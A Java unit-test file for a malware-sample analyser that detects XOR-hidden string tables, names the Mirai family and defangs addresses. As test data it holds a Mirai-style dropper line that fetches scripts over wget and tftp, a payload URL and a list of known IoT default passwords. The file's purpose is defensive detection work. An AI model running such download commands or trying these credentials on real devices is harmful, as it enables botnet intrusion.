package teiten.sample;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;

final class HiddenTextTest {
    private final SampleReader reader = new SampleReader(FamilyRules.builtIn());

    @Test
    void a_table_under_any_of_the_255_keys_is_found_and_decoded() {
        for (int key = 1; key < 256; key++) {
            if (key == 0x20) {
                continue; // changes the case of letters only: not told from a spelling
            }
            // given
            FileBytes file = new FileBytes(BenignBot.hiding(BenignBot.TABLE, key, 2000));
            // when
            List<XorTable> tables = XorSearch.tables(file);
            // then
            assertThat(tables).as("key " + key).extracting(XorTable::key).containsExactly(key);
            // a byte that equals the key becomes zero and splits its entry; the others are whole
            List<String> entries = tables.get(0).entries().stream().map(Found::value).toList();
            int wanted = key;
            List<String> unsplit =
                    BenignBot.TABLE.stream().filter(text -> text.indexOf(wanted) < 0).toList();
            assertThat(entries).as("key " + key).containsAll(unsplit);
        }
    }

    @Test
    void one_pass_over_neighbours_finds_the_keys_that_255_decoded_copies_show() {
        Random random = new Random(3);
        for (int i = 0; i < 40; i++) {
            byte[] bytes =
                    BenignBot.hiding(
                            List.of("/dev/watchdog", "/bin/busybox"),
                            random.nextInt(256),
                            random.nextInt(300));
            Set<Integer> clear = new TreeSet<>();
            for (int key = 1; key < 256; key++) {
                byte[] copy = bytes.clone();
                for (int b = 0; b < copy.length; b++) {
                    copy[b] ^= (byte) key;
                }
                if (key != 0x20
                        && new String(copy, StandardCharsets.ISO_8859_1)
                                .contains("/dev/watchdog")) {
                    clear.add(key);
                }
            }
            Set<Integer> fast = new TreeSet<>();
            XorSearch.tables(new FileBytes(bytes)).forEach(table -> fast.add(table.key()));
            assertThat(fast).isEqualTo(clear);
        }
    }

    @Test
    void what_was_hidden_is_sorted_defanged_and_says_how_it_was_found() {
        byte[] bytes = BenignBot.hiding(BenignBot.TABLE, 0x22, 1500);
        SampleFacts facts = reader.read(bytes);
        assertThat(facts.strings().urls())
                .extracting(Found::value, Found::via)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(
                                "hxxp://192[.]0[.]2[.]7:8080/bins/x.arm", "xor 0x22"));
        assertThat(facts.strings().addresses())
                .extracting(Found::value)
                .containsExactly("192[.]0[.]2[.]7:8080");
        assertThat(facts.strings().ports()).extracting(Found::value).containsExactly("8080");
        assertThat(facts.strings().userAgents())
                .extracting(Found::value)
                .containsExactly("Mozilla/5.0 (teiten test)");
        Found url = facts.strings().urls().get(0);
        assertThat((char) (bytes[(int) url.offset()] ^ 0x22)).isEqualTo('h');
    }

    @Test
    void a_family_is_named_by_rule_line_and_offset_and_an_honest_program_has_none()
            throws IOException {
        FamilyHit hit =
                reader.read(BenignBot.hiding(BenignBot.TABLE, 0x22, 1500)).families().get(0);
        assertThat(hit.family()).isEqualTo("Mirai");
        assertThat(hit.place()).matches("families\\.toml:\\d+");
        assertThat(hit.evidence())
                .hasSizeGreaterThanOrEqualTo(hit.needed())
                .allMatch(found -> found.via().equals("xor 0x22"));
        for (Path file : Fixtures.all()) {
            SampleFacts facts = reader.read(Files.readAllBytes(file));
            assertThat(facts.families()).as(file.toString()).isEmpty();
            assertThat(facts.xorTables()).as(file.toString()).isEmpty();
        }
    }

    @Test
    void a_table_of_default_credentials_is_found_and_a_single_such_word_is_not() {
        List<String> credentials = List.of("root", "xc3511", "admin", "vizxv", "888888");
        assertThat(reader.read(BenignBot.hiding(credentials, 0, 100)).strings().credentials())
                .extracting(Found::value)
                .containsExactlyElementsOf(credentials);
        assertThat(
                        reader.read(BenignBot.hiding(List.of("admin", "unrelated"), 0, 100))
                                .strings()
                                .credentials())
                .isEmpty();
    }

    @Test
    void random_bytes_hide_no_table() {
        byte[] noise = new byte[4 << 20];
        new Random(11).nextBytes(noise);
        assertThat(XorSearch.tables(new FileBytes(noise))).isEmpty();
    }

    @Test
    void toolchain_traces_are_read_from_the_fixtures() {
        SampleFacts facts = reader.read(Fixtures.bytes("own/tiny.armv5te"));
        assertThat(facts.traces().compilers())
                .extracting(Found::value)
                .containsExactly("GCC: (Debian 12.2.0-14) 12.2.0");
        SampleFacts klibc = reader.read(Fixtures.bytes("debian/klibc-cat.armel"));
        assertThat(klibc.traces().libraries())
                .extracting(Found::value)
                .anyMatch(text -> text.startsWith("klibc"));
    }

    @Test
    void text_is_defanged_wherever_an_address_stands() {
        assertThat(Defang.url("http://example.test:81/a.b/c"))
                .isEqualTo("hxxp://example[.]test:81/a.b/c");
        assertThat(Defang.line("cd /tmp; wget http://192.0.2.1/x.sh && tftp -g 198.51.100.2"))
                .isEqualTo(
                        "cd /tmp; wget hxxp://192[.]0[.]2[.]1/x.sh && tftp -g 198[.]51[.]100[.]2");
    }
}
